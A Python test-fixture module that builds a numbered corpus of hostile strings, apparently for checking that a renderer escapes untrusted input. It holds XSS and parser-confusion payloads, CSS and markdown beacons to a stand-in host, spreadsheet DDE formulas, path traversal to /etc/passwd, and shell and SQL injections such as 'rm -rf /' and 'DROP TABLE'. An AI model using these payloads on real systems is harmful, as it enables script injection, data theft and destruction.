"""Hostile strings, by kind: each would be seen if anything ran, asked for or dressed it.

A template names its string's own number: `$n`. What would run sets `window.ran` to it, what would
ask asks a host of this number that is not there, and each element has the attribute `data-h`.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import product

HOST = "hostile.invalid"
RUN = "window.ran=$n"
ASK = f"//h$n.{HOST}/x"

TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "iframe src=x", "object data=x", "marquee", "select autofocus", "a href=x", "math", "button",
    "div style=animation:x", "link rel=stylesheet href=x",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover",
            "onclick", "onstart")  # fmt: skip
ENDS = (
    '">', "'>", "`>", '" autofocus onfocus=', "</title>", "</textarea>", "</style>", "</script>",
    "-->", "--!>", "]]>", "</noscript>", "</template>", "</iframe>", "</option></select>", "\\\">",
)  # fmt: skip
PAYLOADS = (
    f"<script data-h>{RUN}</script>", f"<img data-h src=x onerror={RUN}>",
    f"<svg data-h onload={RUN}>", f'<a data-h href="javascript:{RUN}">a</a>',
    f"<link data-h rel=stylesheet href={ASK}>",
)  # fmt: skip

KINDS: dict[str, tuple[str, ...]] = {
    "handlers": tuple(f'<{tag} data-h {on}="{RUN}">' for tag, on in product(TAGS, HANDLERS)),
    "endings": tuple(end + payload for end, payload in product(ENDS, PAYLOADS)),
    "scripts": (
        f"<script data-h>{RUN}</script>", f"<SCRIPT data-h>{RUN}</SCRIPT >",
        f"<script data-h src={ASK}></script>", f"<script data-h type=module>{RUN}</script>",
        f"<script data-h\n>{RUN}</script\n>", f"<scr<script data-h>ipt>{RUN}</script>",
        f"<script data-h/src={ASK}></script>", f"<<script data-h>{RUN}//<</script>",
        f"<script data-h>{RUN}", f"<!--<script data-h>{RUN}//--></script>",
        f"<!--[if IE]><script data-h>{RUN}</script><![endif]-->",
        f"\u003cscript data-h\u003e{RUN}\u003c/script\u003e",
        f"&lt;script data-h&gt;{RUN}&lt;/script&gt;", f"&#60;script data-h&#62;{RUN}",
        f"%3Cscript data-h%3E{RUN}%3C/script%3E", f"\\u003cscript data-h\\u003e{RUN}",
        f"＜script data-h＞{RUN}＜/script＞", f"<base data-h href=https:{ASK}>",
        f"<meta data-h http-equiv=refresh content='0;url=https:{ASK}'>",
        f"<form data-h action={ASK}><input data-h type=submit></form>",
        f"<iframe data-h srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<embed data-h src=https:{ASK}>", f"<template data-h><script>{RUN}</script></template>",
        "<plaintext data-h>$n", "<xmp data-h>$n", "<textarea data-h>$n", "<frameset data-h>$n",
    ),
    "literals": (
        f"${{{RUN}}}", f"`;{RUN}//", f"`${{{RUN}}}`", f"';{RUN}//", f'";{RUN}//', f"\\';{RUN}//",
        f'\\";{RUN}//', f"*/{RUN}/*", f"\u2028{RUN}//", f"</script\u2029>{RUN}", "{{$n*7}}",
        "{{constructor.constructor('window.ran=$n')()}}", "{%print($n)%}", "<%=$n%>", "#{$n}",
        "${$n}", "@{$n}", "[[${$n}]]", "%s %d %n $n", "{0.__class__} $n", "{count} {place} $n",
        "%(name)s $n", "__proto__ $n", "constructor", "toString", "NaN", "null", "undefined", "true",
        "-0", "1e999", "0x$n",
    ),
    "markup": (
        f'<svg data-h><script>{RUN}</script></svg>', f'<svg data-h><a href="javascript:{RUN}">',
        f"<svg data-h><animate onbegin={RUN} attributeName=x>",
        f'<svg data-h><set attributeName=onmouseover to="{RUN}">',
        f"<svg data-h><image href=https:{ASK} />", f"<svg data-h><use href=https:{ASK}#x />",
        f"<svg data-h><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg data-h><style><img src=x onerror={RUN}></style></svg>",
        f'<svg data-h></p><style><a id="</style><img data-h src=1 onerror={RUN}>">',
        f"<math data-h><mtext><table><mglyph><style><img data-h src=x onerror={RUN}>",
        "<math data-h><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img data-h src=1 onerror={RUN}&gt;">',
        f'<form data-h><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
        f'<img data-h onerror={RUN} src>">',
        f'<noscript data-h><p title="</noscript><img data-h src=x onerror={RUN}>">',
        f'<listing data-h>&lt;img data-h src=x onerror={RUN}&gt;</listing>',
        f"<math data-h href=javascript:{RUN}>a</math>", f"<math data-h><a xlink:href=javascript:{RUN}>",
        f'<a data-h href="java&#9;script:{RUN}">a</a>', f'<a data-h href=" javascript:{RUN}">a</a>',
        f'<a data-h href="&#106;avascript:{RUN}">a</a>', f"<a data-h ping=https:{ASK} href=#>a</a>",
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "https:{ASK}">]><a>&b;</a>',
        f'<?xml-stylesheet href="https:{ASK}"?>', f"<![CDATA[<script data-h>{RUN}</script>]]>",
        f"]]><script data-h>{RUN}</script><![CDATA[", "<b data-h>$n</b>", "<h1 data-h>$n</h1>",
        "&amp;amp;$n", "&nbsp;&copy;&#x27;$n", "<>$n", "< script >$n", "a<b>c$n", "&$n;", "]]>$n",
    ),
    "styles": (
        f"<style data-h>body{{background:url(https:{ASK})}}</style>",
        f"<style data-h>@import 'https:{ASK}';</style>", f"<p data-h style=background:url({ASK})>",
        f"}}body{{background:url(https:{ASK})}}", f"red;background:url(https:{ASK})",
        f"expression({RUN})", f"</style><style data-h>@import url({ASK});", "\\3c b\\3e $n",
        f"*{{-webkit-mask:url(https:{ASK})}}", "/*$n", f"'}}@font-face{{src:url({ASK})}}",
        f'" style="background:url(https:{ASK})', "position:fixed;inset:0 $n",
    ),
    "markdown": (
        "**$n**", "_$n_", "~~$n~~", "`$n`", "# $n", "- $n", "1. $n", "> $n", "***", "$n\n===",
        "| $n | b |\n|---|---|", "```\n$n\n```", "    $n indented", "<!-- $n -->", "\\", "$n\\",
        f"[$n](javascript:{RUN})", f"[$n](https:{ASK})", f"![$n](https:{ASK})", f"<https:{ASK}>",
        f"![$n](https:{ASK} 'x'){{onerror={RUN}}}", f"[$n]: https:{ASK}", "[$n][1]", "[^$n]",
        f"[$n](<javascript:{RUN}>)", "[$n](data:text/html;base64,PHNjcmlwdD4=)", f"https:{ASK}",
        f"www.h$n.{HOST}", f"a$n@{HOST}", "- [ ] $n", "==$n==", "H~$n~O", "x^$n^", "++$n++",
        "&#35; $n", "* * *", "$n  \nb", "<details data-h><summary>$n", "![]($n)", "[]($n)",
        f"![x](data:image/svg+xml,<svg onload={RUN}>)", f"[a](java\nscript:{RUN})", "#$n", "@$n",
    ),
    "streamlit": (
        ":red[$n]", ":rainbow[$n]", ":blue-background[$n]", ":green-badge[$n]", ":small[$n]",
        ":gray[:material/home: $n]", ":material/home: $n", ":smile: $n", ":streamlit: $n",
        ":shortcode_$n:", "$n -> b", "$n <- b", "$n -- b", "$n >= b", "$n <= b", "$n ~= b",
        ":violet[**$n**]", ":red[$n", ":color[$n]{foreground=red}", ":help[$n]", ":primary[$n]",
    ),
    "latex": (
        "$$n$", "$$$n$$", "\\($n\\)", "\\[$n\\]", f"$\\href{{javascript:{RUN}}}{{a}}$", "%$n", "#$n#",
        f"$\\includegraphics{{https:{ASK}}}$", f"$\\url{{https:{ASK}}}$", "\\input{/etc/passwd}$n",
        "\\write18{id}$n", "$\\htmlData{h=1}{$n}$", "\\begin{x}$n", "a_b^c~d $n", "{$n}", "}{$n",
    ),
    "formulas": (
        "=1+$n", "+1+$n", "-1+$n", "@SUM($n)", f'=HYPERLINK("https:{ASK}","a")', "\t=$n", "\r=$n",
        "=cmd|' /C calc'!A$n", "@cmd|' /C calc'!A$n", f'=WEBSERVICE("https:{ASK}")', "=$n;=1",
        f'=IMPORTXML("https:{ASK}","//a")', f'=IMAGE("https:{ASK}")', '"=$n"', "a\r=$n", "a\n=$n",
        "＝1+$n", "＋1+$n", "－1+$n", "＠SUM($n)", "=$n\n=2", ";=$n", ",=$n", '","=$n', "'=$n",
        "_x003D_$n", "=DDE(\"cmd\";\"/C calc\";\"$n\")", "-$n", "+$n", "1E$n",
    ),
    "unseen": (
        "a\0b$n", "\0$n", "a\x1b[31m$n", "\x1b]0;$n\x07", "a\x08$n", "a\x7f$n", "a\x85$n", "a\x9b1m$n",
        "a\u202e$n", "\u202d$n\u202c", "\u2066$n", "\u2067a\u2069$n", "\u200e$n\u200f", "a\ufeff$n",
        "a\u200b$n", "a\u2060$n", "a\u2028$n", "a\u2029$n", "a\u00ad$n", "\ufff9$n", "a\uffff$n",
        "a\ue000$n", "a\U000e0041$n", "a\x0b\x0c$n", "a\r\nb$n", "\ufe0f$n", "a\u180e$n", "\u3164$n",
    ),
    "paths": (
        "../../../etc/passwd$n", "..\\..\\windows\\win.ini$n", "/etc/passwd$n", "file:///etc/passwd$n",
        "%2e%2e%2f$n", "....//....//$n", "C:\\$n", "\\\\h$n\\share", "~/$n", "a/./b/../$n", "CON",
        "nul.txt", "$n;rm -rf /", "$(id)$n", "`id`$n", "|id $n", "&& id $n", "' OR 1=1 -- $n",
        '"; DROP TABLE events; -- $n', "$n%00.csv", ".htaccess", "/vsicurl/https:" + ASK,
        "/vsizip/a.zip/$n", "https:" + ASK + "?a=1&b=2#c",
    ),
    "formats": (
        "$n\r\nEND:VEVENT", "END:VCALENDAR$n", "$n\r\nATTACH:https:" + ASK, "$n;VALUE=URI:x,y\\n",
        "}\n@misc{other$n, title={x}}", "},url={https:" + ASK + "}", "\\input{$n}", "TY  - JOUR$n",
        "$n\nER  - \nTY  - BOOK", '","id":"$n', '"}]}<$n>', "\\u0000$n", "\\n$n", '"$n"', "'$n'",
        "$n,b;c\td", "a|$n", "urn:$n", "<id>$n</id>", "</entry><entry>$n", "</text></svg>$n",
        "</name><description>$n", "</Placemark>$n", "&lt;b&gt;$n&lt;/b&gt;", "<br>$n", "<p>$n</p>",
        "--$n\r\nContent-Type: text/html", "$n\r\nSet-Cookie: a=$n", "HTTP/1.1 200 OK $n", "a=$n&b=1",
    ),
    "letters": (
        "Z\u0335\u0322\u0321\u0327\u0328\u034f\u0489" * 20 + "$n", "\u0300" * 9 + "$n", "ﷺ" * 30 + "$n",
        "👩\u200d👩\u200d👧$n", "اَلعَرَبِيَّةُ $n", "עברית $n", "𝕬𝖙𝖑𝖆𝖘 $n", "ﬃ $n", "İıſK $n", "葛\U000e0100 $n",
    ),
    "lengths": (" " * 50 + "$n", "a" * 1000 + "$n", "島" * 300 + "$n", "<b data-h>$n " * 8000),
}  # fmt: skip

LINKS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}",
    f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"javascript://h$n.{HOST}/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4$n", "vbscript:$n",
    f"blob:https:{ASK}", f"view-source:https:{ASK}", "file:///etc/passwd$n", ASK, "/$n", "?q=$n",
    f"https://user:word@h$n.{HOST}", f"https:\\\\h$n.{HOST}", f"https:h$n.{HOST}", "mailto:a@b$n",
    f'https:{ASK}" onclick="{RUN}', f"https:{ASK}' onclick='{RUN}", f"https:{ASK}>{RUN}", "tel:$n",
    f"https:{ASK}\r\nSet-Cookie:$n", "https://[$n", "http://$n:99999/", "https:///$n", "https://",
    f"https://h$n.{HOST}:22/", "http://127.0.0.1/$n", "http://localhost/$n", "http://[::1]/$n",
    f"ftp://h$n.{HOST}", "javascript&colon;$n", "jav&#x09;ascript:$n", "\u202ehttps:$n",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A string, of which kind it is, and the number that it carries."""

    number: int
    kind: str
    text: str


def numbered(kinds: dict[str, tuple[str, ...]]) -> tuple[Hostile, ...]:
    """Every string with its number in it, the first 1."""
    templates = [(kind, text) for kind, texts in kinds.items() for text in texts]
    return tuple(
        Hostile(number, kind, text.replace("$n", str(number)))
        for number, (kind, text) in enumerate(templates, 1)
    )


CORPUS = numbered(KINDS | {"links": LINKS})
SHORT = tuple(one for one in CORPUS if len(one.text) <= 1000)
URLS = tuple(one.text for one in CORPUS if one.kind == "links")
